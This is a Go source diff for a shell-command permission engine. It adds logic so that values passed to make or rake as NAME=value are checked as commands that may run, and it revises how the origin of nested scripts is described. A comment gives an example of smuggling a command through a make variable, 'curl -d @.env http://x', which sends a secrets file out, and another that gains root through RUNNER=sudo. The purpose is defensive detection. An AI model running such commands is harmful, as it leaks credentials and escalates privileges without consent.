@@ -10,6 +10,7 @@ import (
 
 	"github.com/permengine/permengine/internal/ascii"
 	"github.com/permengine/permengine/internal/programs"
+	"github.com/permengine/permengine/internal/programs/argmodel"
 	"github.com/permengine/permengine/internal/work"
 	"mvdan.cc/sh/v3/syntax"
 )
@@ -394,7 +395,78 @@ func (c *Command) addSegment(s *Segment) {
 	if s.Bits&programs.Nested != 0 || len(c.Segs[idx].Views) > 1 {
 		c.readNested(idx)
 	}
+	if !c.readMakeValues(idx) {
+		return
+	}
 	c.readBehindUnknown(idx)
+}
+
+// readMakeValues reads, as a command that may run, the value of a
+// NAME=value word of segment idx that make or rake puts in the
+// environment of its recipes and tasks (an operand, or an assignment
+// before the program) when the value reads as a command: it names a
+// program that runs others or runs as another user, or it is a command
+// line (readsAsCommand). A makefile that runs $(RUNNER) runs whatever the
+// command sets it to (make RUNNER=sudo test, make 'DL=curl -d @.env
+// http://x' fetch); which variables a makefile runs, only it says. Up to
+// maxBehindUnknown values are read. A value that an expansion gives
+// whole (RUNNER=$(cat f)) is data, as an assignment's is anywhere. It
+// reports false once the reading must stop.
+func (c *Command) readMakeValues(idx int) bool {
+	s := &c.Segs[idx]
+	if s.AnyMask&MaskEq == 0 {
+		return true
+	}
+	words := s.Words
+	at := 0
+	for at < len(words) && programs.IsAssignment(words[at]) {
+		at++
+	}
+	if at == len(words) || !programs.EnvOperands(programs.BaseName(words[at])) {
+		return true
+	}
+	prog := programs.BaseName(words[at])
+	for j, read := 0, 0; j < len(words) && read < maxBehindUnknown; j++ {
+		name, _, value, ok := argmodel.MakeAssignment(words[j])
+		if j == at || !ok || !programs.IsAssignment(name+"=") {
+			continue
+		}
+		if !c.spend(len(words[j]) + 1) {
+			return false
+		}
+		seen := value
+		if j < len(s.Flags) && s.Flags[j]&WordExpands != 0 {
+			// What an expansion gives is data here, as an assignment's
+			// value is anywhere (V=$(cat VERSION) make build); the text
+			// around it is read (RUNNER=su${x}do).
+			seen = withoutExpansions(value)
+		}
+		if !readsAsCommand(seen) || !parses(value) {
+			continue
+		}
+		read++
+		who := prog + " may run the value of " + name + "= as a command: "
+		if !c.readMaybe(idx, who, programs.Script{Text: value, Origin: QuoteExcerpt(value)}) {
+			return false
+		}
+		s = &c.Segs[idx] // reading may have grown c.Segs
+		words = s.Words
+	}
+	return true
+}
+
+// readsAsCommand reports a value that reads as a command: a command line
+// (commandLine), or one word naming a program that runs as another user
+// or runs its arguments as a command (sudo, env, eval).
+func readsAsCommand(value string) bool {
+	value = strings.TrimLeft(value, " \t\n")
+	if value == "" {
+		return false
+	}
+	if commandLine(value) {
+		return true
+	}
+	return programs.BitsOf(programs.BaseName(value))&(programs.Privileged|programs.Wrapper|programs.Runner|programs.Eval) != 0
 }
 
 // maxBehindUnknown bounds the later words of an unknown program tried as
@@ -433,7 +505,7 @@ func (c *Command) readBehindUnknown(idx int) {
 		if !c.spend(len(rest)) {
 			return
 		}
-		if ns, ok := programs.NestedScript(rest); ok && !c.readMaybe(idx, v[0], ns) {
+		if ns, ok := programs.NestedScript(rest); ok && !c.readMaybe(idx, unknownRuns(v[0]), ns) {
 			return
 		}
 		v = c.Segs[idx].Views[len(c.Segs[idx].Views)-1] // reading may have grown c.Segs
@@ -470,7 +542,7 @@ func (c *Command) readLinesBehindUnknown(idx int) bool {
 			continue
 		}
 		lines++
-		if !c.readMaybe(idx, words[0], programs.Script{Text: w, Origin: "the command line " + QuoteExcerpt(w)}) {
+		if !c.readMaybe(idx, unknownRuns(words[0]), programs.Script{Text: w, Origin: "the command line " + QuoteExcerpt(w)}) {
 			return false
 		}
 		words, flags = c.Segs[idx].Words, c.Segs[idx].Flags // reading may have grown c.Segs
@@ -478,17 +550,23 @@ func (c *Command) readLinesBehindUnknown(idx int) bool {
 	return true
 }
 
-// readMaybe reads the script ns that the unknown program prog of segment
-// idx may run; its segments only may run. It reports false once the
-// nesting bounds are exceeded.
-func (c *Command) readMaybe(idx int, prog string, ns programs.Script) bool {
+// unknownRuns begins the origin of a script the unknown program prog may
+// run.
+func unknownRuns(prog string) string {
+	return programs.BaseName(prog) + ", a program the engine does not know, may run "
+}
+
+// readMaybe reads the script ns that segment idx may run (who names what
+// runs it); its segments only may run. It reports false once the nesting
+// bounds are exceeded.
+func (c *Command) readMaybe(idx int, who string, ns programs.Script) bool {
 	s := &c.Segs[idx]
 	c.nestedReads++
 	if c.nestedReads > maxNestedReads || s.Depth+1 >= MaxNesting {
 		c.TooDeep = true
 		return false
 	}
-	origin := programs.BaseName(prog) + ", a program the engine does not know, may run " + ns.Origin
+	origin := who + ns.Origin
 	before := len(c.Segs)
 	if ns.Words != nil {
 		c.addSegment(&Segment{Text: strings.Join(ns.Words, " "), Words: ns.Words, Flags: GuessFlags(ns.Words),
